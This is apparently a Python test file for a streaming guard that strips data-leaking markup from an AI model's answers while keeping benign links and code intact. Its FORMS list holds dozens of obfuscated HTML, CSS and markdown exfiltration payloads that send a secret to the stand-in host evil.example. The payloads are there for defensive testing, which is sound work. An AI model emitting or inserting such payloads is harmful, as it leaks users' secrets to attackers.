"""Ways in which an answer would send something away by being shown: none of them gets out, however the text is cut."""

from __future__ import annotations

import random
import sys
from types import FrameType

import pytest

from app.domain.screening import Screening
from app.safety.beginnings import BOUNDS
from app.safety.guard import Screener
from app.safety.streams import Stream

D = "vaultcode-4711-Maria-blue-painting"
EVIL = f"evil.example/p?d={D}"
FORMS = (
    f'<img alt=">" src="https://{EVIL}">', f'<img alt="{"a " * 220}" src="https://{EVIL}">', f'<img alt="{"a " * 2200}" src=//{EVIL}>',
    f'<img srcset="/ok.png 1x, //{EVIL} 2x">', f'<img srcset="/ok.png 1x,\n\t//{EVIL} 2x">', f'<img srcset="/ok.png 1x,{" " * 3000}//{EVIL} 2x">',
    f"[r]: https://{EVIL}\n\n![a][r]", f"![a][r]\n\n[r]: https://{EVIL}", f"![a][r]\n\n[r]:      \n   <https://{EVIL}>",
    f"[r]: https&#58;//{EVIL}\n\n![a][r]", f"[r]: \\/\\/{EVIL}\n\n![a][r]", f"![a][r]\n\n[r]:{' ' * 3000}https://{EVIL}",
    f'<style>@import "https://{EVIL}";</style>', f'<style>@import "//{EVIL}";</style>', f"<style>a{{b:u\\72l(//{EVIL})}}</style>",
    f"<div style='background-image:image-set(\"//{EVIL}\" 1x)'>", f"<div style='background:url( \"//{EVIL}\")'>",
    f"<div style = 'background:u\\72l(https://{EVIL})'>", f"![a](https://{EVIL})", f"![a\nb](<https://{EVIL}>)",
    f'![a]( https://{EVIL} "t")', f"[![a](https://{EVIL})](https://x.example)", f"![a\\]b](https://{EVIL})", f"![a](      https://{EVIL})",
    f"![a]({' ' * 3000}https://{EVIL})", f"![a](\n\n\n  https://{EVIL})", f'<svg><image xlink:href="//{EVIL}"/></svg>',
    f"<link rel=stylesheet href=//{EVIL}>", f'<iframe srcdoc="&lt;img src=//{EVIL}&gt;">', f'<iframe srcdoc="&lt;img src&#61;//{EVIL}&gt;">',
    f"<video><source src=//{EVIL}></video>", f'<img src="https&#58;//{EVIL}">', f'<img src="&sol;&sol;{EVIL}">', f'<img src="/\t/{EVIL}">',
    f'<img src="/\\{EVIL}">', f'<img src=" https:{EVIL}">', f'<IMG SRC="HTTPS://{EVIL}">', f'<img\nsrc\n=\n"https://{EVIL}">',
    f'<img src =       "https://{EVIL}">', f'<img src{" " * 23}="//{EVIL}">', f'<img src{" " * 300}={" " * 3000}"//{EVIL}">',
    f'<meta http-equiv=refresh content="0; url=\'https://{EVIL}\'">', f'<a ping="//{EVIL}" href="/x">x</a>',
    f'<img src="\x01//{EVIL}">', f'<img src="/&Tab;/{EVIL}">', f'<img src=//good.org@{EVIL}>', f'<img src=`//{EVIL}`>', f"![a](&#47;&#47;{EVIL})",
    f'<object data="//{EVIL}">', f"<form><button formaction=//{EVIL}>go</button></form>", f'<body background="//{EVIL}">',
    f'<script>fetch("//{EVIL}")</script>', f'{{"x":"<img src=\\"https://{EVIL}\\">"}}', f'{{"x":"<img src =\\n \\"//{EVIL}\\">"}}',
)  # fmt: skip
BENIGN = (
    "See https://docs.example/a?page=2 and [this](https://docs.example/b), (https://docs.example/c).",
    'x = requests.post(url, data=payload, params={"a": "b"})  // a comment //another',
    "def f(a: list[int]: \"x\", b[1]: y) -> None: ...  # parser.add_argument(action='store_true')",
    '{"homepage": "https://docs.example/", "content": "words", "src": "https://docs.example/a.png"}',
    '<a href="/x?a=1&b=2">x</a> <img src="files/a.png" srcset="/a.png 1x, /b.png 2x"> <a href="mailto:ann">',
    '<img src="https://img.good.org/a.png" srcset="//good.org/a.png 1x, https://good.org/b.png 2x">',
    "def checked_url(text: str) -> None:\n    seen[0]: dict[str, int] = {}\n    for one in found[1:]:\n        try:\n            parts: x[1] = 2",
    "- [ ] a task: https://docs.example/\n- [x]: done",
)


def out(text: str, size: int | None = None) -> str:
    guard = Screener().guard(Screening(link_hosts=("good.org",)), "")
    assert guard is not None
    size = size or len(text)
    return "".join(guard.push(text[at : at + size]) for at in range(0, len(text), size)) + guard.end()


@pytest.mark.parametrize("text", FORMS, ids=range(len(FORMS)))
def test_what_would_be_fetched_does_not_get_out(text: str) -> None:
    for said in (text, f"Well. {text} That is all."):
        whole = out(said)
        assert D not in whole
        for size in (1, 2, 3, 5, 7, 16, 64):
            assert out(said, size) == whole, size


@pytest.mark.parametrize("text", BENIGN, ids=range(len(BENIGN)))
def test_what_is_not_fetched_stays(text: str) -> None:
    for size in (None, 1, 2, 3, 5, 7, 16):
        assert out(text, size) == text


REPEATS = (
    "](", "![a](b", "=:/(-._A", "is is bearer ", "-----BEGIN PRIVATE KEY-----\n", "-----", "https://<A", "//", "/a//", "eyJ.", "sk-",
    "password=", "src=", "src=\"", "src = ", "href='//e.org ", "url(", "[a]:", "](  ", "   =", "\\n", "<", "![](/", "http://a.b/?q=", "@import",
    "://a:b@", "\n\n![", "AKIA", "token:", "style",
)  # fmt: skip


def test_any_repeats_come_out_alike_and_bounded() -> None:
    """Held text stays below its bound, and cuts change nothing, also where everything begins and nothing ends."""
    for unit in REPEATS:
        text = unit * (9_000 // len(unit)) + " end"
        guard = Stream(())
        shown = ""
        for at in range(0, len(text), 4):
            shown += guard.push(text[at : at + 4])
            assert guard.held < max(BOUNDS.values())
        shown += guard.end()
        whole = Stream(())
        assert whole.push(text) + whole.end() == shown, unit


def test_a_mixture_of_repeats_comes_out_alike() -> None:
    rng = random.Random(8)
    for _ in range(120):
        text = "".join(rng.choice(REPEATS) * rng.choice((1, 1, 2, 20, 300)) for _ in range(8))
        whole = out(text)
        assert out(text, 1) == whole, text[:300]
        assert out(text, 11) == whole, text[:300]


def calls(text: str, size: int) -> int:
    """How many functions are called while that goes through: the work, on any machine."""
    count = 0

    def counted(_frame: FrameType, event: str, _: object) -> None:
        nonlocal count
        count += event in ("call", "c_call")

    stream = Stream(())
    before = sys.getprofile()
    sys.setprofile(counted)
    try:
        for at in range(0, len(text), size):
            stream.push(text[at : at + size])
        stream.end()
    finally:
        sys.setprofile(before)
    return count


@pytest.mark.parametrize("size", [4, 1_000_000])
def test_work_grows_with_the_length_alone(size: int) -> None:
    for unit in REPEATS:
        less, much = (calls(unit * (length // len(unit)), size) for length in (10_000, 40_000))
        assert much <= 6 * less, unit
        assert much <= 60 * 40_000, unit


def test_a_long_answer_of_beginnings_ends() -> None:
    """A quarter of a million characters of what took minutes once."""
    for unit in ("](", "-----BEGIN PRIVATE KEY-----\n", "=:/(-._A", "![a](b"):
        stream = Stream(())
        text = unit * (256_000 // len(unit))
        shown = sum(len(stream.push(text[at : at + 16])) for at in range(0, len(text), 16)) + len(stream.end())
        assert 0 < shown <= len(text) + 100
